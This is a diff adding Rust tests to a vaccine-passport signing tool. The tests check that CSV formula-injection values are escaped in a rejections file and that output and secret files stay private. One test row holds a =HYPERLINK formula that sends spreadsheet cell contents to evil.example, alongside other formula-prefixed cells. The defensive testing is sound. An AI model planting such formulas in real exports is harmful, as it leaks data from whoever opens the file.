@@ -219,3 +219,124 @@ fn expired_facility_certificate_is_refused_before_signing() {
     .fails();
     assert!(err.contains("expired"), "{err}");
 }
+
+/// Rows whose record ids and registry values a spreadsheet would run as formulas: each is
+/// rejected, so that its cells reach `rejected.csv`.
+const FORMULA_DOSES: &str =
+    "record_id,facility_code,id_number,full_name,dob,sex,nationality,phone,vaccine,lot,dose_number,vaccination_date
+\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm vào đây\"\")\",01001,001090000123,Nguyễn Văn Ân,02/05/1990,Nam,,,Pfizer,,,2021-08-01
++1,01001,001090000123,Nguyễn Văn An,02/05/1990,Nam,,,Nanocovax,,,2021-08-01
+-5,01001,001090000123,Nguyễn Văn An,02/05/1990,Nam,,,Nanocovax,,,2021-08-01
+@SUM(A1),01001,001090000123,Nguyễn Văn An,02/05/1990,Nam,,,Nanocovax,,,2021-08-01
+'x,01001,001090000123,Nguyễn Văn An,02/05/1990,Nam,,,Nanocovax,,,2021-08-01
+R6,01001,001090000123,Nguyễn Văn An,02/05/1990,Nam,,,Nanocovax,,,2021-08-01
+";
+
+// Issue #8, item 8: https://github.com/vaxpass/vaxpass/issues/8
+#[test]
+fn rejected_csv_cells_never_start_a_formula() {
+    let dir = tempdir();
+    let data = small_batch(dir.path());
+    std::fs::write(data.join("doses.csv"), FORMULA_DOSES).unwrap();
+    sign(dir.path(), &data.join("doses.csv"), Some(&data.join("registry.csv"))).arg("--json").succeeds();
+    let text = std::fs::read_to_string(dir.path().join("out/rejected.csv")).unwrap();
+    let mut rows: Vec<Vec<String>> = csv::Reader::from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    rows.sort();
+    let ids: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
+    assert_eq!(
+        ids,
+        ["''x", "'+1", "'-5", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")", "'@SUM(A1)", "R6"]
+    );
+    for row in &rows {
+        for cell in row {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {row:?}");
+        }
+    }
+    let name_mismatch = rows.iter().find(|r| r[1] == "NAME_MISMATCH").unwrap();
+    assert_eq!(name_mismatch[3], "Nguyễn Văn An");
+}
+
+/// Runs `vaxpass ARGS` under `umask 022`, the usual default that made outputs 0644.
+#[cfg(unix)]
+fn under_umask_022(args: &[&std::ffi::OsStr]) -> std::process::Output {
+    std::process::Command::new("sh")
+        .arg("-c")
+        .arg("umask 022; exec \"$0\" \"$@\"")
+        .arg(env!("CARGO_BIN_EXE_vaxpass"))
+        .args(args)
+        .current_dir(crate::util::repo())
+        .output()
+        .unwrap()
+}
+
+#[cfg(unix)]
+#[track_caller]
+fn mode(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt as _;
+    std::fs::metadata(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())).permissions().mode() & 0o777
+}
+
+// Issue #8, item 12: https://github.com/vaxpass/vaxpass/issues/8
+#[cfg(unix)]
+#[test]
+fn outputs_database_and_qr_images_are_private_under_umask_022() {
+    let dir = tempdir();
+    let d = dir.path();
+    let data = small_batch(d);
+    let f = keys_example().join("facility-01001");
+    let db = sqlite_in(d);
+    let args: Vec<std::ffi::OsString> = vec![
+        "sign".into(),
+        "--key".into(),
+        f.join("key.pem").into(),
+        "--cert".into(),
+        f.join("cert.pem").into(),
+        "--input".into(),
+        data.join("doses.csv").into(),
+        "--registry".into(),
+        data.join("registry.csv").into(),
+        "--out".into(),
+        d.join("out").into(),
+        "--db".into(),
+        db.into(),
+        "--secret".into(),
+        d.join("secret").into(),
+        "--qr".into(),
+        "svg".into(),
+    ];
+    let args: Vec<&std::ffi::OsStr> = args.iter().map(|a| a.as_os_str()).collect();
+    // A stale partial output from a killed run, world-readable: it must be narrowed too.
+    std::fs::create_dir_all(d.join("out")).unwrap();
+    std::fs::write(d.join("out/.rejected.csv.partial"), "old").unwrap();
+    let out = under_umask_022(&args);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    for name in ["passports.jsonl", "rejected.csv", "summary.json"] {
+        assert_eq!(mode(&d.join("out").join(name)), 0o600, "{name}");
+    }
+    let images: Vec<PathBuf> = std::fs::read_dir(d.join("out/qr")).unwrap().map(|e| e.unwrap().path()).collect();
+    assert_eq!(images.len(), 3);
+    for image in &images {
+        assert_eq!(mode(image), 0o600, "{}", image.display());
+    }
+    assert_eq!(mode(&d.join("v.db")), 0o600);
+    for side in ["v.db-wal", "v.db-shm"] {
+        if d.join(side).exists() {
+            assert_eq!(mode(&d.join(side)), 0o600, "{side}");
+        }
+    }
+    assert_eq!(mode(&d.join("secret")), 0o600);
+
+    // A deployment secret that others can read is refused, naming the fix.
+    use std::os::unix::fs::PermissionsExt as _;
+    std::fs::set_permissions(d.join("secret"), std::fs::Permissions::from_mode(0o644)).unwrap();
+    let out = under_umask_022(&args);
+    assert_eq!(out.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("the deployment secret has mode 644: group or others can use it; run `chmod 600` on it"),
+        "{err}"
+    );
+}
